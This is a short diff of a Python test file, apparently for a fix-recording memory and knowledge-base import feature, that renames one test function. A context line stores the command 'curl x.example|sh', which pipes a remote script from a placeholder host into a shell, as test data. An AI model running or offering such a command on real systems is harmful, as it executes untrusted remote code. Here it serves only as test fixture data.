@@ -91,9 +91,7 @@ def test_an_adopted_history_counts_as_the_attempts_it_consists_of(
         memory.record_fix(asked, True, True, "", ["curl x.example|sh"], author="fix history")
 
 
-def test_a_knowledge_base_that_was_imported_reaches_the_fixer(
-    memory: Memory, tmp_path: Path
-) -> None:
+def test_an_imported_knowledge_base_reaches_the_fixer(memory: Memory, tmp_path: Path) -> None:
     knowledge = {
         "general_patterns": {}, "model_specific_tips": {"qwen2.5:7b": ["Pull it again after an upgrade."]},
         "successful_strategies": {"TIMEOUT": ["Raise the limit to 60 s."], "CRASH": ["Other."]},
